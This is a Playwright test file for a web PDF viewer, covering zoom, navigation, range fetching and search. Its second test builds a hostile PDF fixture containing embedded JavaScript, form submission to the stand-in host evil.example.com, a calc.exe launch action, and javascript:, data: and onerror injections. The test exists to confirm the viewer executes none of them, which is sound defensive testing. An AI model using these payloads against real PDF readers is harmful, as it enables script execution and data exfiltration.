import { firstExtra, pdfWith, textAt, textPdf } from '../../fixtures/files/sample-files.ts'
import { PreviewPage } from '../../fixtures/pages/preview-page.ts'
import { expect, test } from '../../fixtures/test.ts'

const zoomed = (preview: PreviewPage) => preview.dialog.getByRole('combobox', { name: 'Zoom' })
const pageNumber = (preview: PreviewPage) => preview.dialog.getByRole('textbox', { name: /^Page, of/ })

test('a PDF is read, zoomed, turned and searched by mouse and keyboard; of 300 pages only visible ones are fetched', async ({
  page,
}) => {
  test.slow()
  // Larger than a single range request, so that it is fetched in parts.
  const lines = Array.from({ length: 38 }, (_, line) => `${line}. ${'the borrower shall inject equity '.repeat(2)}`)
  const preview = await PreviewPage.of(page, {
    'Memo.pdf': textPdf(6, () => ['equity injection of ten percent']),
    'Package.pdf': textPdf(300, (n) => [`Exhibit ${n} of the file`, ...lines]),
  })
  await preview.open('Memo.pdf')
  await expect(preview.pdfPage(1).getByText('Credit memorandum, page 1')).toBeAttached()
  expect(await preview.darkness(1)).toBeGreaterThan(0.0005)
  await expect(zoomed(preview)).toHaveValue('width')
  const widthOf = async () => (await preview.pdfPage(1).boundingBox())?.width ?? 0
  expect(await widthOf()).toBeGreaterThan(1300)

  await zoomed(preview).selectOption('100')
  await expect.poll(widthOf).toBe(816)
  await preview.button('Zoom in').click()
  await expect.poll(widthOf).toBe(898)
  await page.mouse.move(700, 500)
  await page.keyboard.down('Control')
  await page.mouse.wheel(0, 300)
  await page.keyboard.up('Control')
  await expect.poll(widthOf).toBeLessThan(898)
  await zoomed(preview).selectOption('page')
  await page.keyboard.press('Escape')
  await preview.link('Memo.pdf').click()

  await expect(preview.pdfPage(1)).toBeVisible()
  await page.keyboard.press('End')
  await expect(pageNumber(preview)).toHaveValue('6')
  await page.keyboard.press('g')
  await page.keyboard.type('3')
  await page.keyboard.press('Enter')
  await expect(preview.pdfPage(3)).toBeInViewport()
  await page.keyboard.press('Escape')
  await expect(pageNumber(preview)).toHaveValue('3')
  await page.keyboard.press('r')
  await expect.poll(async () => (await preview.pdfPage(3).boundingBox())?.height ?? 0).toBeLessThan(1200)
  await page.keyboard.press('Escape')
  await expect(preview.dialog).toBeHidden()
  await expect(preview.link('Memo.pdf')).toBeFocused()

  const ranges: string[] = []
  page.on('request', (request) => {
    const range = request.headers()['range']
    if (range !== undefined) ranges.push(range)
  })
  await preview.open('Package.pdf')
  await expect(preview.pdfPage(1).getByText('Credit memorandum, page 1')).toBeAttached()
  expect(ranges.length).toBeGreaterThan(0)
  expect(ranges.every((range) => /^bytes=\d+-\d+$/.test(range))).toBe(true)
  const groups = preview.dialog.getByRole('group', { name: /^Page \d+$/ })
  expect(await groups.count()).toBeLessThan(6)

  await pageNumber(preview).fill('250')
  await page.keyboard.press('Enter')
  await expect(preview.pdfPage(250).getByText('page 250')).toBeAttached()
  expect(await groups.count()).toBeLessThan(6)

  await page.keyboard.press('Control+f')
  const field = preview.dialog.getByRole('textbox', { name: 'Find in document' })
  await expect(field).toBeFocused()
  await field.fill('EXHIBIT  299')
  const status = preview.dialog.getByRole('search').getByRole('status')
  await expect(status).toHaveText('1 of 1')
  await expect(preview.pdfPage(299).locator('[data-active]')).toBeInViewport()
  await field.fill('credit memorandum')
  await expect(status).toHaveText('250 of 300')
  await page.keyboard.press('Enter')
  await expect(status).toHaveText('251 of 300')
  await expect(preview.pdfPage(251).locator('[data-active]')).toBeInViewport()
  await page.keyboard.press('Shift+Enter')
  await page.keyboard.press('Shift+Enter')
  await expect(status).toHaveText('249 of 300')
  await field.fill('nowhere to be found')
  await expect(status).toHaveText('Not found')
  // Escape closes the search first, then the preview.
  await page.keyboard.press('Escape')
  await expect(field).toBeHidden()
  await expect(preview.dialog).toBeVisible()
  await preview.expectNothingExecuted()
})

test('a PDF can run no script, submit no form and start no program; links show their target', async ({ page }) => {
  const script = String.raw`/S/JavaScript/JS(app.alert\(1\); window.struck = 1; this.submitForm\('https://evil.example.com'\);)`
  const link = (number: number, action: string) =>
    `<</Type/Annot/Subtype/Link/Border[0 0 0]/Rect[72 ${600 - number * 40} 300 ${620 - number * 40}]${action}>>`
  const links = [
    link(0, '/A<</S/URI/URI(https://www.sba.gov/forms)>>'),
    link(1, '/A<</S/URI/URI(javascript:window.struck=1)>>'),
    link(2, `/A<<${script}>>`),
    link(3, '/A<</S/Launch/F(calc.exe)>>'),
    link(4, '/A<</S/SubmitForm/F(https://evil.example.com)>>'),
    link(5, '/A<</S/URI/URI(data:text/html,<script>window.struck=1</script>)>>'),
    link(6, '/Dest[6 0 R/Fit]'),
  ]
  const button = `<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(Go)/Rect[72 100 200 130]/MK<</CA(Go)>>/A<<${script}>>/AA<</E<<${script}>>>>>>`
  const hostile = pdfWith(
    [
      {
        content: textAt('<img src=x onerror="window.struck=1"> {{7*7}}', 72, 700),
        more: `/Annots[${links.join('')}${button}]/AA<</O<<${script}>>>>`,
      },
      { content: textAt('The second page', 72, 700) },
    ],
    {
      catalog: `/OpenAction<<${script}>>/Names<</JavaScript<</Names[(a) ${firstExtra(2)} 0 R]>>>>`,
      extra: [`<<${script}>>`],
    },
  )
  const preview = await PreviewPage.of(page, { 'Hostile.pdf': hostile })
  const asked: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(new URL(page.url()).origin) && !/^(blob|data):/.test(request.url()))
      asked.push(request.url())
  })
  page.on('dialog', () => asked.push('a dialog'))
  await preview.open('Hostile.pdf')
  await expect(preview.pdfPage(1).getByText('onerror')).toBeAttached()
  expect(await preview.darkness(1)).toBeGreaterThan(0)

  const out = preview.pdfPage(1).getByRole('link')
  await expect(out).toHaveCount(1)
  await expect(out).toHaveAttribute('href', 'https://www.sba.gov/forms')
  await expect(out).toHaveAttribute('rel', /noopener/)
  await expect(out).toHaveAttribute('target', '_blank')
  await out.focus()
  await expect(out.getByText('https://www.sba.gov/forms')).toBeVisible()
  await expect(preview.pdfPage(1).locator('input, form, iframe, script')).toHaveCount(0)
  await preview.pdfPage(1).getByRole('button').click()
  await expect(preview.pdfPage(2)).toBeInViewport()
  await expect(pageNumber(preview)).toHaveValue('2')
  expect(asked).toEqual([])
  await preview.expectNothingExecuted()
})
